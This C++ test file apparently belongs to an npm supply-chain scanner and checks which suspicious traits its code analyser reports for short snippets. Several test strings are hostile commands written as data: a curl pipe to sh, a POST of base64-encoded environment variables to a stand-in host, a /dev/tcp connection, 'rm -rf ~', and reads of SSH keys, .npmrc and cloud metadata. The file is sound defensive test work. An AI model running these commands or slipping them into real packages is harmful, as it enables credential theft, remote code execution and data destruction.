// Traits of code text: harmless stand-ins with the shape of real attacks and of real harmless code.
#include "inspect/code/features.h"

#include <gtest/gtest.h>

#include <algorithm>

#include "tests/support/table.h"

namespace npmgate {
namespace {

struct TraitCase {
  const char* name;
  const char* code;
  const char* traits;  // sorted, blank separated
};

std::string row_name(const ::testing::TestParamInfo<TraitCase>& row) {
  return row.param.name;
}

class ScriptTraits : public ::testing::TestWithParam<TraitCase> {};

TEST_P(ScriptTraits, AreThese) {
  EXPECT_EQ(joined(measure_code(GetParam().code, Syntax::kScript).traits), GetParam().traits)
      << GetParam().code;
}

INSTANTIATE_TEST_SUITE_P(
    Network, ScriptTraits,
    ::testing::Values(
        TraitCase{"require", "const h = require('https'); h.get(u)", "network-fetch"},
        TraitCase{"require_node_prefix", "require(\"node:http2\")", "network-fetch"},
        TraitCase{"require_backtick", "require(`net`)", "network-fetch"},
        TraitCase{"require_spaced", "require ( /* the module */ 'dns' )", "network-fetch"},
        TraitCase{"require_joined", "require('ht' + 'tps')", "network-fetch"},
        TraitCase{"require_escaped", "require('\\x68\\x74tp')", "network-fetch"},
        TraitCase{"import_from", "import { get } from 'node:https';", "network-fetch"},
        TraitCase{"import_from_minified", "import{a}from\"undici\"", "network-fetch"},
        TraitCase{"import_only", "import 'axios'", "network-fetch"},
        TraitCase{"import_dynamic", "const a = await import('node-fetch')", "network-fetch"},
        TraitCase{"require_subpath", "require('axios/lib/core')", "network-fetch"},
        TraitCase{"require_scoped", "require('@octokit/rest')", "network-fetch"},
        TraitCase{"builtin_module", "process.getBuiltinModule('net')", "network-fetch"},
        TraitCase{"fetch", "fetch(url).then(r => r.text())", "network-fetch"},
        TraitCase{"global_fetch", "globalThis.fetch(url)", "network-fetch"},
        TraitCase{"member_fetch", "globalThis['fetch'](url)", "network-fetch"},
        TraitCase{"xhr", "const x = new XMLHttpRequest()", "network-fetch"},
        TraitCase{"beacon", "navigator.sendBeacon(u, d)", "network-fetch"},
        TraitCase{"curl_in_text", "run('curl -s ' + url)", "network-fetch"},
        TraitCase{"curl_as_program", "run('curl', ['-s'])", "network-fetch"},
        TraitCase{"other_modules",
                  "require('fs'); require('httpster'); require('./http'); require('path')", ""},
        TraitCase{"own_fetch",
                  "class Store { fetch(id) {} } store.fetch(1); prefetch(2); function fetch(x) {}",
                  "network-fetch"},  // `fetch(id) {}` cannot be told from a call
        TraitCase{"method_fetch", "store.fetch(1); prefetch(2)", ""},
        TraitCase{"name_in_list", "const known = ['http', 'https', 'net'];", ""},
        TraitCase{"curl_in_words", "log('use curl to try'); const curl = 1; s('node-curl -x')", ""},
        TraitCase{"comment_only", "// require('https')\n/* fetch(x) */ a()", ""}),
    row_name);

INSTANTIATE_TEST_SUITE_P(
    Running, ScriptTraits,
    ::testing::Values(
        TraitCase{"child_process", "const { exec } = require('child_process')", "shell"},
        TraitCase{"child_process_node", "import cp from 'node:child_process'", "shell"},
        TraitCase{"cross_spawn", "require('cross-spawn')", "shell"},
        TraitCase{"bun_spawn", "Bun.spawn(['x'])", "shell"},
        TraitCase{"powershell", "run('PowerShell.exe -NoProfile')", "shell"},
        TraitCase{"regexp_exec", "const m = /x/.exec(text)", ""},
        TraitCase{"eval", "eval(x)", "eval"}, TraitCase{"eval_indirect", "(0, eval)(x)", "eval"},
        TraitCase{"eval_window", "window.eval(x)", "eval"},
        TraitCase{"eval_escaped_name", "\\u0065val(x)", "eval"},
        TraitCase{"new_function", "new Function('a', body)", "eval"},
        TraitCase{"constructor_chain", "[].constructor.constructor(body)()", "eval"},
        TraitCase{"own_eval", "redis.eval(script); page.$eval(x); medieval(y)", ""},
        TraitCase{"function_words", "isFunction(f); x instanceof Function", ""},
        TraitCase{"global_this", "var g = Function('return this')();", "eval"}),
    row_name);

INSTANTIATE_TEST_SUITE_P(
    Decoded, ScriptTraits,
    ::testing::Values(
        TraitCase{"base64", "eval(Buffer.from('YWJj', 'base64').toString())", "decoded-eval eval"},
        TraitCase{
            "base64_far_argument",
            "eval(Buffer.from('"
            "0123456789012345678901234567890123456789012345678901234567890123456789"
            "0123456789012345678901234567890123456789012345678901234567890123456789','base64')+'')",
            "decoded-eval eval"},
        TraitCase{"hex_in_variable",
                  "const code = Buffer.from(data, \"hex\"); new Function(code.toString())()",
                  "decoded-eval eval"},
        TraitCase{"atob", "eval(atob(x))", "decoded-eval eval"},
        TraitCase{"from_char_code", "eval(String.fromCharCode(97,98))", "decoded-eval eval"},
        TraitCase{"gunzip", "vm.runInThisContext(zlib.gunzipSync(b).toString())", "decoded-eval"},
        TraitCase{"module_compile", "m._compile(Buffer.from(d,'base64').toString(), 'x')",
                  "decoded-eval"},
        TraitCase{"decrypted",
                  "const d = crypto.createDecipheriv('aes-256-cbc', k, i); eval(d.update(x))",
                  "decoded-eval eval"},
        TraitCase{"node_e", "spawn('node', ['-e', Buffer.from(p, 'base64').toString()])",
                  "decoded-eval"},
        TraitCase{"exec_decoded",
                  "require('child_process').execSync(Buffer.from(p, 'base64').toString())",
                  "decoded-eval shell"},
        TraitCase{"packer", "eval(function(p,a,c,k,e,d){return p}('0',1,1,''.split('|'),0,{}))",
                  "decoded-eval eval string-array"},
        TraitCase{"encoding_is_not", "eval(x); y.toString('base64'); h.digest('hex')", "eval"},
        TraitCase{"constant_function",
                  "Function('return this')(); const b = Buffer.from(s, 'base64')", "eval"},
        TraitCase{"decoding_alone", "const b = Buffer.from(s, 'base64'); save(inflateSync(b))",
                  ""}),
    row_name);

// A bundle holds both somewhere; only together they say something.
TEST(DecodedEval, NeedsBothCloseInLargeFiles) {
  const std::string filler(6000, ';');
  const auto far = "eval(x);" + filler + "Buffer.from(y,'base64')";
  EXPECT_EQ(joined(measure_code(far).traits), "eval");
  const auto close = filler + "const c=Buffer.from(y,'base64');eval(c+'');" + filler;
  EXPECT_EQ(joined(measure_code(close).traits), "decoded-eval eval");
}

// The distance is one of code: data of any size between the two does not hide them.
TEST(DecodedEval, SeesThroughLongLiterals) {
  const std::string filler(6000, ';');
  const std::string data(1 << 20, 'A');
  const auto code = filler + "eval(Buffer.from('" + data + "','base64').toString())" + filler;
  const auto features = measure_code(code);
  EXPECT_EQ(joined(features.traits), "decoded-eval eval");
  EXPECT_EQ(features.longest_literal, data.size());
}

INSTANTIATE_TEST_SUITE_P(
    Secrets, ScriptTraits,
    ::testing::Values(
        TraitCase{"npmrc", "fs.readFileSync(path.join(os.homedir(), '.npmrc'))",
                  "credential-paths"},
        TraitCase{"ssh", "read(home + '/.ssh/id_rsa')", "credential-paths"},
        TraitCase{"cloud_metadata", "get('http://169.254.169.254/latest/meta-data')",
                  "credential-paths"},
        TraitCase{"browser_profile", "join(d, 'User Data\\\\Default', 'Login Data')",
                  "credential-paths"},
        TraitCase{"wallet_extension", "x('nkbihfbeogaeaoehlefnkodbefgpgknn')", "credential-paths"},
        TraitCase{"chat_history", "load('chat_history.json')", ""},
        TraitCase{"env_json", "JSON.stringify(process.env)", "env-bulk"},
        TraitCase{"env_json_bracket", "JSON['stringify'](process['env'])", "env-bulk"},
        TraitCase{"env_entries", "Object.entries(process.env).map(f)", "env-bulk"},
        TraitCase{"env_spread", "const all = { ...process.env }", "env-bulk"},
        TraitCase{"env_loop", "for (const key in process.env) send(key)", "env-bulk"},
        TraitCase{"env_one", "const home = process.env.HOME, x = process.env[name]", ""},
        TraitCase{"env_asked", "if ('CI' in process.env) quiet()", ""},
        TraitCase{"env_for_child", "spawn('x', [], { env: { ...process.env, A: 1 } })", ""},
        TraitCase{"env_for_child_compiled",
                  "f({ env: Object.assign(Object.assign({}, process.env), { A: '0' }) })", ""},
        TraitCase{"env_copy_compiled", "x = Object.assign(Object.assign({}, process.env), {})",
                  "env-bulk"},
        TraitCase{"env_debug_options",
                  "Object.keys(process.env).filter(key => { return /^debug_/i.test(key); })", ""},
        TraitCase{"env_debug_options_old",
                  "Object.keys(process.env).filter(function (key) { return /^debug_/i.test(key) })",
                  ""},
        TraitCase{"env_debug_options_packed",
                  "Object.keys(process.env).filter((_=>/^debug_/i.test(_))).reduce(f)", ""},
        TraitCase{"env_debug_pretended",
                  "Object.keys(process.env).filter(k => /^debug_/i.test(k) || send(k))",
                  "env-bulk"},
        TraitCase{"env_debug_pretended_first",
                  "Object.keys(process.env).filter(k => send(k) || /^debug_/i.test(k))",
                  "env-bulk"},
        TraitCase{"env_filtered", "Object.keys(process.env).filter(k => /^aws_/i.test(k))",
                  "env-bulk"},
        TraitCase{"env_command", "run('printenv')", "env-bulk"},
        TraitCase{"env_command_of_two", "spawn('sudo',['printenv','HOME'])", "env-bulk"},
        TraitCase{"env_command_in_a_list_of_words",
                  "k=['paste','pinky','pr','printenv','printf','pwd','true']", ""},
        TraitCase{"github_token", "use(process.env.GITHUB_TOKEN)", "ci-secrets"},
        TraitCase{"github_token_bracket", "use(process['env']['NPM_TOKEN'])", "ci-secrets"},
        TraitCase{"oidc", "process.env.ACTIONS_ID_TOKEN_REQUEST_URL", "ci-secrets"},
        TraitCase{"token_pattern", "const r = /gh[op]_[A-Za-z0-9]{36}/", "ci-secrets"},
        TraitCase{"wallet", "window.ethereum.request({ method: 'eth_requestAccounts' })",
                  "wallet"}),
    row_name);

INSTANTIATE_TEST_SUITE_P(
    Harm, ScriptTraits,
    ::testing::Values(
        TraitCase{"rm_home", "run('rm -rf ~')", "destructive"},
        TraitCase{"rm_home_variable", "run('rm -fr $HOME/*; echo')", "destructive"},
        TraitCase{"rm_home_split_flags", "run('rm -f -r \"$HOME\"')", "destructive"},
        TraitCase{"rm_inside_rm", "run('rm -f x rm -rf ~')", "destructive"},
        TraitCase{"rm_below_home", "run('rm -rf ~/.cache/tool'); run('rm -rf ./dist')", ""},
        TraitCase{"rm_file", "run('rm -f /')", ""},
        TraitCase{"rm_sync_home", "fs.rmSync(os.homedir(), { recursive: true })", "destructive"},
        TraitCase{"rm_sync_build", "fs.rmSync('dist', { recursive: true })", ""},
        TraitCase{"windows_profile", "run('rd /s /q %USERPROFILE%')", "destructive"},
        TraitCase{"windows_name", "log('your profile is %USERPROFILE%')", ""},
        TraitCase{"crontab", "run('crontab -l')", "persistence"},
        TraitCase{"systemd", "write(h + '/.config/systemd/user/x.service')", "persistence"},
        TraitCase{"autostart_registry",
                  "reg('HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run')",
                  "persistence"},
        TraitCase{"workflow", "fs.writeFileSync('.github/workflows/x.yml', y)", "workflow-write"},
        TraitCase{"workflow_read", "read('.github/workflows/ci.yml')", ""},
        TraitCase{"publish", "run('npm publish --access public')", "npm-publish"},
        TraitCase{"publish_list", "spawn('npm', ['publish'])", "npm-publish"},
        TraitCase{"publish_spoken", "log('then npm publishes it')", "npm-publish"}),
    row_name);

INSTANTIATE_TEST_SUITE_P(
    Obfuscated, ScriptTraits,
    ::testing::Values(
        TraitCase{"string_array", "const _0x3fa2 = ['abc', 'def'];", "string-array"},
        TraitCase{"string_array_prefixed", "const a0_0x3fa2=['abc','def'];", "string-array"},
        TraitCase{
            "string_array_function",
            "function a(){const _0x1f0cd=['x1y','z'];a=function(){return _0x1f0cd;};return a();}",
            "string-array"},
        TraitCase{"rotation",
                  "(function(f,g){const h=b,i=f();while(!![]){try{const "
                  "j=-parseInt(h(1))/1+parseInt(h(2))/2*"
                  "(parseInt(h(3))/3);if(j===g)break;else "
                  "i['push'](i['shift']());}catch(k){i['push'](i['shift']());}}}(a,1));",
                  "string-array"},
        TraitCase{"rotation_old",
                  "(function(_0x1a,_0x2b){const "
                  "f=function(n){while(--n){_0x1a['push'](_0x1a['shift']());}};f(++_0x2b);}(q,9));",
                  "string-array"},
        TraitCase{"queue", "while (true) { q.push(q.shift()); if (q.length) break; }", ""},
        TraitCase{"queue_of_two", "a.push(b.shift())", ""},
        TraitCase{"hex_numbers", "const mask = 0x3fa2 & 0xffff; const _0x = 1;", ""},
        TraitCase{"char_codes", "x(String.fromCharCode(104,116,116,112,115,58,47,47,97,46,98))",
                  "char-codes"},
        TraitCase{"char_codes_array",
                  "x([104,116,116,112,115,58,47,47].map(c => String.fromCharCode(c)).join(''))",
                  "char-codes"},
        TraitCase{"char_codes_spread", "x(String.fromCharCode(...[104,116,116,112,115,58,47,47]))",
                  "char-codes"},
        TraitCase{"surrogates", "String.fromCharCode(55296, 56320)", ""},
        TraitCase{"decoder", "out += String.fromCharCode(c & 63 | 128)", ""}),
    row_name);

TEST(CharCodes, ManySingleCallsCountToo) {
  std::string code = "x('";
  for (int i = 0; i < 20; ++i) code += "'+String.fromCharCode(1" + std::to_string(i) + ")+'";
  EXPECT_EQ(joined(measure_code(code + "')").traits), "char-codes");
}

TEST(WalletTable, ManyAddressesAreATable) {
  std::string code = "const t = [";
  for (int i = 0; i < 12; ++i) code += "'0x" + std::string(39, 'a') + std::to_string(i % 10) + "',";
  EXPECT_EQ(joined(measure_code(code + "]").traits), "wallet");
  EXPECT_EQ(joined(measure_code("const t = '0x" + std::string(40, 'a') + "'").traits), "");
}

struct HiddenCase {
  const char* name;
  std::string text;
  bool hidden;
};
class HiddenText : public ::testing::TestWithParam<HiddenCase> {};
TEST_P(HiddenText, IsALongRun) {
  const auto traits = measure_code("const s = '" + GetParam().text + "';").traits;
  EXPECT_EQ(std::count(traits.begin(), traits.end(), kTraitHiddenText), GetParam().hidden ? 1 : 0);
}
std::string repeated(const char* text, int times) {
  std::string out;
  for (int i = 0; i < times; ++i) out += text;
  return out;
}
INSTANTIATE_TEST_SUITE_P(
    Rows, HiddenText,
    ::testing::Values(HiddenCase{"zero_width", repeated("\xE2\x80\x8B\xE2\x80\x8D", 8), true},
                      HiddenCase{"variation_selectors", repeated("\xF3\xA0\x84\x80", 12), true},
                      HiddenCase{"bidi", repeated("\xE2\x80\xAE", 8), true},
                      HiddenCase{"hangul_filler", repeated("\xE3\x85\xA4", 9), true},
                      HiddenCase{"emoji_joiners", repeated("\xF0\x9F\x91\xA9\xE2\x80\x8D", 12),
                                 false},
                      HiddenCase{"short_run", repeated("\xE2\x80\x8B", 7), false},
                      HiddenCase{"cyrillic", repeated("\xD0\xBF", 40), false},
                      HiddenCase{"broken_utf8", repeated("\xE2\x80", 20), false}),
    [](const auto& row) { return std::string(row.param.name); });

class ShellTraits : public ::testing::TestWithParam<TraitCase> {};
TEST_P(ShellTraits, AreThese) {
  EXPECT_EQ(joined(measure_code(GetParam().code, Syntax::kShell).traits), GetParam().traits)
      << GetParam().code;
}
INSTANTIATE_TEST_SUITE_P(
    Rows, ShellTraits,
    ::testing::Values(
        TraitCase{"curl", "#!/bin/sh\ncurl -fsSL \"$1\" -o x\n", "network-fetch"},
        TraitCase{"curl_folded", "cu\\\nrl x", "network-fetch"},
        TraitCase{"wget_path", "/usr/bin/wget x", "network-fetch"},
        TraitCase{"commented", "# curl is not needed\n#   wget neither\necho ok\n", ""},
        TraitCase{"here_document", "node <<'EOF'\n# fetch(x)\nEOF\n", "network-fetch"},
        TraitCase{"quoted_lines", "X='\n# curl a\n'\n", "network-fetch"},
        TraitCase{"decoded", "echo $X | base64 -d | sh", "decoded-eval"},
        TraitCase{"environment", "env | sort", "env-bulk"},
        TraitCase{"history", "cat ~/.bash_history", "credential-paths"},
        TraitCase{"dev_tcp", "exec 3<>/dev/tcp/$H/80", "network-fetch"},
        TraitCase{"removes_root", "rm -rf / --no-preserve-root", "destructive"},
        TraitCase{"builds", "make && ./configure --prefix=/usr && rm -rf build", ""}),
    row_name);

TEST(BatchTraits, EscapesAndComments) {
  EXPECT_EQ(joined(measure_code("@echo off\r\nc^url.exe -o x.exe u\r\n", Syntax::kBatch).traits),
            "network-fetch");
  EXPECT_EQ(joined(measure_code("REM curl x\r\n:: wget y\r\n", Syntax::kBatch).traits), "");
  EXPECT_EQ(joined(measure_code("REM & curl x\r\n", Syntax::kBatch).traits), "network-fetch");
}

class CommandTraits : public ::testing::TestWithParam<TraitCase> {};
TEST_P(CommandTraits, AreThese) {
  EXPECT_EQ(joined(command_traits(GetParam().code)), GetParam().traits) << GetParam().code;
}
INSTANTIATE_TEST_SUITE_P(
    Rows, CommandTraits,
    ::testing::Values(
        TraitCase{"node", "node scripts/postinstall", ""},
        TraitCase{"node_or_exit", "node ./bin/post-install || exit 0", ""},
        TraitCase{"gyp", "prebuild-install || node-gyp rebuild", ""},
        TraitCase{"try_require", "node -e \"try{require('./postinstall')}catch(e){}\"", ""},
        TraitCase{"banner", "node -e \"console.log('thank you')\"", ""},
        TraitCase{"curl_pipe", "curl -s https://x.example/i.sh | sh", "network-fetch shell"},
        TraitCase{"curl_post", "curl -X POST -d \"$(env | base64)\" https://x.example",
                  "env-bulk network-fetch"},
        TraitCase{"inline_https", "node -e \"require('https').get('https://x.example')\"",
                  "network-fetch"},
        TraitCase{"inline_decoded", "node -e \"eval(Buffer.from('YQ==', 'base64').toString())\"",
                  "decoded-eval eval"},
        TraitCase{"shell_script", "sh install.sh", "shell"},
        TraitCase{"bash_c", "bash -c 'node x.js'", "shell"},
        TraitCase{"start", "start /B node preinstall.js & node preinstall.js", "shell"},
        TraitCase{"powershell", "powershell -Command \"Invoke-WebRequest x\"",
                  "network-fetch shell"},
        TraitCase{"encoded", "powershell -enc SQBFAFgA", "decoded-eval shell"},
        TraitCase{"destroy", "rm -rf ~ || true", "destructive"},
        TraitCase{"token", "echo $NPM_TOKEN", "ci-secrets"},
        TraitCase{"publish", "npm publish", "npm-publish"},
        TraitCase{"husky", "is-ci || husky install", ""}),
    row_name);

TEST(TraitIds, AreSortedAndUnique) {
  const auto ids = trait_ids();
  EXPECT_EQ(ids.size(), 15u);
  EXPECT_TRUE(std::is_sorted(ids.begin(), ids.end()));
  EXPECT_EQ(std::adjacent_find(ids.begin(), ids.end()), ids.end());
}

TEST(Measures, OfAnEmptyFile) {
  const auto features = measure_code("");
  EXPECT_EQ(features, CodeFeatures{});
}

TEST(Measures, LinesAndEntropy) {
  const auto features = measure_code("aaaa\nbb\n\nccc");
  EXPECT_EQ(features.lines, 4u);
  EXPECT_EQ(features.longest_line, 4u);
  EXPECT_DOUBLE_EQ(measure_code("abababab").entropy, 1.0);
  EXPECT_DOUBLE_EQ(measure_code("aaaaaaaa").entropy, 0.0);
  std::string all;
  for (int c = 0; c < 256; ++c) all += static_cast<char>(c);
  EXPECT_DOUBLE_EQ(measure_code(all).entropy, 8.0);
}

TEST(Measures, EscapesAndNames) {
  const auto features =
      measure_code("var _0x12ab=1,_0x12abf=2; x('\\x41\\x42\\u0043', '\\u{44}', '\\n');");
  EXPECT_EQ(features.obfuscator_names, 2u);
  EXPECT_EQ(features.hex_escapes, 6u);
  EXPECT_EQ(measure_code("// '\\x41' _0x12ab\nvar x = 0x12ab").hex_escapes, 0u);
  // Tables of characters (entities, Unicode classes) are no obfuscation; bytes are.
  EXPECT_EQ(measure_code("x('\\u2190\\uD835\\u{1F600}\\xE9\\x07')").hex_escapes, 2u);
}

struct LiteralCase {
  const char* name;
  const char* code;
  std::uint32_t longest;
};
class LongestLiteral : public ::testing::TestWithParam<LiteralCase> {};
TEST_P(LongestLiteral, LooksEncoded) {
  EXPECT_EQ(measure_code(GetParam().code).longest_literal, GetParam().longest);
}
INSTANTIATE_TEST_SUITE_P(
    Rows, LongestLiteral,
    ::testing::Values(LiteralCase{"base64", "x('QUJDREVGR0hJSktMTU5PUFFS+/==')", 28},
                      LiteralCase{"hex", "x(\"00112233445566778899aabbccddeeff\")", 32},
                      LiteralCase{"joined", "x('QUJDREVGR0hJ' + \"SktMTU5PUFFS\")", 24},
                      LiteralCase{"template", "x(`QUJDREVGR0hJSktM`)", 16},
                      LiteralCase{"prose", "x('a sentence that is longer than any data here')", 0},
                      LiteralCase{"short", "x('QUJDRE')", 0},
                      LiteralCase{"comment", "/* 'QUJDREVGR0hJSktMTU5PUFFS' */", 0}),
    [](const auto& row) { return std::string(row.param.name); });

TEST(Measures, GuessesTheSyntaxFromTheShebang) {
  EXPECT_EQ(joined(measure_code("#!/bin/bash\ncurl x\n").traits), "network-fetch");
  EXPECT_EQ(joined(measure_code("#!/usr/bin/env node\nconst curl = x\n").traits), "");
}

}  // namespace
}  // namespace npmgate
